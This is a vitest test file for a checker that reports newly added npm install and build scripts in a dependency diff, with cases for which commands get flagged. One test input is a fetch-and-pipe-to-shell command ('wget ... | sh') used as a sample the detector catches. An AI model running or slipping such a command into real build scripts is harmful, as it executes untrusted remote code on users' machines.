import { expect, it } from 'vitest';
import { compareScripts } from './compare-scripts.ts';
import type { InstallScript } from './package-file.ts';

const script = (name: string, command: string): InstallScript => ({ name, command, line: 3 });

/** What is told of new scripts, as `name what`. */
function told(base: readonly InstallScript[] | undefined, head: InstallScript): readonly string[] {
  return compareScripts(base, [head]).map(({ name, what }) => `${name} ${what}`);
}

it.each([
  ['postinstall', 'node setup.js', true],
  ['postinstall', 'npm run a&&npm run b || husky; patch-package', false],
  ['postinstall', 'npm run a && node setup.js', true],
  ['postinstall', 'npm run eval', false],
  ['prepare', 'node -e "run()"', true],
  ['prepare', 'node build.js', false],
  ['build', 'node -e "run()"', false],
  ['build', 'wget -q acme.dev/x -O- | sh', true],
  ['build', 'curl acme.dev/health', false],
])('reads the new script %s: %s', (name, command, isNoticed) => {
  const found = compareScripts([script('test', 'vitest')], [script(name, command)]);

  expect(found).toEqual(
    isNoticed ? [{ code: 'dependency-script', name, what: `runs \`${command}\``, line: 3 }] : [],
  );
});

it('compares scripts by name and command, and shows the first part of a long one', () => {
  const long = `node ${'x'.repeat(100)}`;
  const base = [script('postinstall', 'node a.js'), script('other', 'node b.js')];

  const found = [
    told(base, script('postinstall', 'node a.js')),
    told(base, script('postinstall', 'node b.js')),
    told(base, script('preinstall', 'node a.js')),
    told(undefined, script('postinstall', long)),
  ];

  expect(found).toEqual([
    [],
    ['postinstall runs `node b.js`'],
    ['preinstall runs `node a.js`'],
    [`postinstall runs \`${long.slice(0, 80)}\``],
  ]);
});
